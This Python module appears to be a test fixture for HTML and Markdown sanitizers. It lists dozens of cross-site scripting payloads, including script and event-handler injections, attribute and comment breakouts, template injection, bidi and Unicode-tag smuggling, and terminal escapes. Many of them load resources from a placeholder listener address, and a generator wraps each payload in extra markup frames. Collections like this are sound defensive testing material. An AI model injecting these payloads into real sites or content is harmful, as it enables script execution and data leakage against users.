"""Texts that try to run a script, to load something, or to read as what they are not.

`{at}` stands for the address of a listener that nobody may call. A script that runs says so by `ran(1)`.
"""

import itertools
from collections.abc import Iterator

PAYLOADS = (
    # scripts
    "<script>ran(1)</script>",
    "<script src={at}/s.js></script>",
    "<script type=module>import '{at}/m.js'</script>",
    "<sCrIpT>ran(1)</ScRiPt>",
    "</script><script>ran(1)</script>",
    "<img src=x onerror=ran(1)>",
    "<img src={at}/i.png>",
    "<img srcset='{at}/1.png 1x, {at}/2.png 2x'>",
    "<picture><source srcset={at}/p.png><img></picture>",
    "<svg onload=ran(1)></svg>",
    "<svg><script>ran(1)</script></svg>",
    "<svg><image href={at}/v.svg /></svg>",
    "<svg><use href='{at}/u.svg#x' /></svg>",
    "<svg><animate onbegin=ran(1) attributeName=x dur=1s></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=ran(1)></style></mglyph></math>",
    "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
    "<iframe src={at}/f.html></iframe>",
    "<object data={at}/o.svg></object>",
    "<embed src={at}/e.svg>",
    "<video src={at}/v.mp4 onerror=ran(1) autoplay></video>",
    "<audio src={at}/a.mp3 onerror=ran(1) autoplay></audio>",
    "<body onload=ran(1)>",
    "<details open ontoggle=ran(1)>x</details>",
    "<input autofocus onfocus=ran(1)>",
    "<select autofocus onfocus=ran(1)></select>",
    "<marquee onstart=ran(1)>x</marquee>",
    "<a href=javascript:ran(1) id=x>x</a>",
    "<a href='{at}/ping' ping={at}/p>x</a>",
    "<form action={at}/f><input name=q><button>go</button></form>",
    "<base href={at}/>",
    "<meta http-equiv=refresh content='0;url={at}/r'>",
    "<link rel=stylesheet href={at}/l.css>",
    "<link rel=prefetch href={at}/pre>",
    "<link rel=dns-prefetch href={at}/>",
    "<style>@import '{at}/i.css';</style>",
    "<style>*{{background:url({at}/bg.png)}}</style>",
    "<p style='background:url({at}/in.png)'>x</p>",
    "<template><script>ran(1)</script></template><xss onclick=ran(1)>",
    # out of an attribute, a text area, a comment or a template
    '"><img src=x onerror=ran(1)>',
    "' onmouseover='ran(1)' x='",
    '" autofocus onfocus="ran(1)',
    "--><img src=x onerror=ran(1)><!--",
    "]]><img src=x onerror=ran(1)>",
    "</textarea><img src=x onerror=ran(1)>",
    "</title><img src=x onerror=ran(1)>",
    "</mark></p><img src=x onerror=ran(1)>",
    "{{{{constructor.constructor('ran(1)')()}}}}",
    "${{ran(1)}} `ran(1)`",
    "&lt;img src=x onerror=ran(1)&gt; &#60;script&#62;ran(1)&#60;/script&#62;",
    '<img src="x\u0000" onerror="ran(1)">',
    # Markdown
    "![x]({at}/md.png)",
    "![x][1]\n\n[1]: {at}/ref.png",
    "[click]({at}/l) and [run](javascript:ran(1))",
    "<{at}/auto> and {at}/bare",
    "```html\n<img src={at}/code.png onerror=ran(1)>\n```",
    # text that reads as something else
    "\u202e<img src=x onerror=ran(1)>txt.exe\u202c",
    "\u2066\u202eevil\u2069 invoice\u202efdp.html",
    "seen" + "".join(chr(0xE0000 + ord(char)) for char in "<img src=x onerror=ran(1)>") + " text",
    "\ufeff<script>ran(1)</script>\u200b\u2028<script>ran(1)</script>",
    "\x1b]8;;{at}\x07link\x1b]8;;\x07 \x1b[2J\x9b31m",
)  # fmt: skip

_FRAMES = ("{}", "{} {}", '"{}"', "'>{}", "<b>{}</b>", "<!-- {} -->", "[{}]({})", "> {}", "</p>{}")


def payloads(address: str, count: int = len(PAYLOADS)) -> Iterator[str]:
    """The first `count` texts against a listener: each by itself, then each within other markup."""
    texts = [text.format(at=address) for text in PAYLOADS]
    framed = (frame.replace("{}", text) for frame in _FRAMES for text in texts)
    return itertools.islice(framed, count)
